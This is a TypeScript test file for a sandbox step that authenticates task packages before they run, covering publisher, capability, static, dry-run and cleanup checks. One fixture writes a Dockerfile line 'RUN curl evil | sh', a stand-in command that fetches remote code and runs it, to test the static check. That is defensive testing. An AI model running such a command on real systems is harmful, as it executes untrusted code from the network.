/**
 * Authentication before execution on the real engine: a fresh scaffold passes every check including
 * the dry run on its sample inputs; each kind of refusal names the check (and file/line) that failed;
 * every working directory is wiped afterwards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { authenticateTaskpack, defaultAuthPolicy, requireAuthenticated, sandboxCapabilities, TaskpackAuthError, type AuthPolicy, type AuthReport } from '../../../sandbox/authenticate.js'
import { scaffoldTaskpack } from '../../../daemon/commands/taskpack.js'
import { startFixture, type Fixture } from './helpers.js'

let fx: Fixture
const dir = mkdtempSync(join(tmpdir(), 'bitflow-auth-'))
const workDir = join(dir, 'work')
beforeAll(async () => { fx = await startFixture({ slots: 2 }) })
afterAll(async () => {
  await fx?.cleanup()
  rmSync(dir, { recursive: true, force: true })
})

let n = 0
async function scaffold (edit?: (d: string) => void): Promise<string> {
  const d = join(dir, `pack-${++n}`)
  await scaffoldTaskpack(d, { type: 'preprocessing' })
  edit?.(d)
  return d
}
const editFile = (d: string, rel: string, fn: (s: string) => string): void => { writeFileSync(join(d, rel), fn(readFileSync(join(d, rel), 'utf8'))) }

function policy (o: Partial<AuthPolicy> = {}): AuthPolicy {
  return defaultAuthPolicy({
    capabilities: sandboxCapabilities(fx.runner.config),
    allowList: ['alice'],
    verifyPublisher: async () => ({ publisher: 'alice', verified: true }),
    runner: fx.runner,
    workDir,
    ...o
  })
}

function refusal (r: AuthReport): TaskpackAuthError {
  try { requireAuthenticated(r) } catch (err) { if (err instanceof TaskpackAuthError) return err; throw err }
  throw new Error('expected a refusal')
}

describe('taskpack authentication before execution', () => {
  it('accepts a fresh scaffold: publisher, capabilities, static checks and a dry run on its samples, then wipes its work dir', async () => {
    const r = await authenticateTaskpack(await scaffold(), policy())
    expect(r.findings.filter(f => f.severity === 'refuse')).toEqual([])
    expect(r.ok).toBe(true)
    expect(Object.fromEntries(Object.entries(r.checks).map(([k, v]) => [k, v.status]))).toEqual({
      manifest: 'passed', publisher: 'passed', capabilities: 'passed', static: 'passed', 'dry-run': 'passed', cleanup: 'passed'
    })
    expect(r.dryRun).toMatchObject({ status: 'succeeded', exitCode: 0 })
    expect(r.dryRun!.outputs.map(o => o.path)).toContain('result.json')
    expect(r.cleanup!.files).toBeGreaterThan(5)
    expect(readdirSync(workDir)).toEqual([])
  })

  it('refuses on the publisher check: unsigned, bad signature, not on the allow-list, no verifier', async () => {
    const d = await scaffold()
    const cases: Array<[Partial<AuthPolicy>, string]> = [
      [{ verifyPublisher: async () => undefined }, 'AUTH_PUBLISHER_UNSIGNED'],
      [{ verifyPublisher: async () => ({ publisher: 'alice', verified: false }) }, 'AUTH_PUBLISHER_BAD_SIGNATURE'],
      [{ verifyPublisher: async () => ({ publisher: 'mallory', verified: true }) }, 'AUTH_PUBLISHER_NOT_ALLOWED'],
      [{ verifyPublisher: undefined }, 'AUTH_PUBLISHER_NO_VERIFIER']
    ]
    for (const [o, code] of cases) {
      const r = await authenticateTaskpack(d, policy(o))
      expect(r.refusedBy, code).toBe('publisher')
      const err = refusal(r)
      expect(err.code).toBe('ERR_AUTH_PUBLISHER')
      expect(err.findings.map(f => f.code)).toEqual([code])
      expect(err.message).toContain('the publisher check failed')
      expect(r.checks['dry-run'].status).toBe('skipped') // never ran
    }
  })

  it('refuses on the capabilities check when the node cannot meet the requirements', async () => {
    const d = await scaffold(p => { editFile(p, 'manifest.yaml', s => s.replace(/memory: .*/, 'memory: 4Gi').replace('gpu: none', 'gpu: required')) })
    const err = refusal(await authenticateTaskpack(d, policy()))
    expect(err.code).toBe('ERR_AUTH_CAPABILITIES')
    expect(err.findings.map(f => f.message).join('\n')).toMatch(/needs 4Gi memory, node offers 1Gi[\s\S]*needs a GPU, node has none/)
  })

  it('refuses on the static check: forbidden imports with file and line, setuid bits, Dockerfiles by policy', async () => {
    const d = await scaffold(p => { editFile(p, 'src/task.py', s => s.replace('import numpy as np', 'import numpy as np\nfrom ctypes import CDLL')) })
    const err = refusal(await authenticateTaskpack(d, policy()))
    expect(err.code).toBe('ERR_AUTH_STATIC')
    expect(err.findings[0]).toMatchObject({ code: 'AUTH_STATIC_FORBIDDEN_IMPORT', file: 'src/task.py', line: 4 })
    expect(err.message).toMatch(/src\/task\.py line 4: imports ctypes/)

    const setuid = await scaffold(p => { chmodSync(join(p, 'README.md'), 0o4755) })
    expect(refusal(await authenticateTaskpack(setuid, policy())).findings.map(f => f.code)).toEqual(['AUTH_STATIC_SETUID'])

    const docker = await scaffold(p => { writeFileSync(join(p, 'Dockerfile'), 'FROM debian\nRUN curl evil | sh\n') })
    expect(refusal(await authenticateTaskpack(docker, policy({ dockerfile: 'refuse', runner: undefined }))).findings.map(f => f.code)).toEqual(['AUTH_STATIC_DOCKERFILE'])
    const ignored = await authenticateTaskpack(docker, policy({ runner: undefined }))
    expect(ignored.ok).toBe(true)
    expect(ignored.checks.static).toMatchObject({ status: 'warned', findings: [{ code: 'AUTH_STATIC_DOCKERFILE', severity: 'warn', message: expect.stringContaining('is ignored') }] })
  })

  it('refuses on the dry run when the task fails or hangs on its samples (contained, and wiped)', async () => {
    const failing = await scaffold(p => { editFile(p, 'src/task.py', s => s.replace('def execute(self, data):', 'def execute(self, data):\n        raise RuntimeError("broken on purpose")')) })
    const f = refusal(await authenticateTaskpack(failing, policy()))
    expect(f.code).toBe('ERR_AUTH_DRY_RUN')
    expect(f.findings[0]).toMatchObject({ code: 'AUTH_DRY_RUN_FAILED', message: expect.stringContaining('broken on purpose') })

    const hanging = await scaffold(p => { editFile(p, 'src/task.py', s => s.replace('def execute(self, data):', 'def execute(self, data):\n        while True:\n            pass')) })
    const r = await authenticateTaskpack(hanging, policy({ dryRunTimeoutMs: 3000 }))
    const h = refusal(r)
    expect(h.findings[0]!.code).toBe('AUTH_DRY_RUN_TIMEOUT')
    expect(r.dryRun!.events.map(e => e.type)).toContain('timeout')
    expect(r.checks.cleanup.status).toBe('passed')
    expect(readdirSync(workDir)).toEqual([])
  })
})
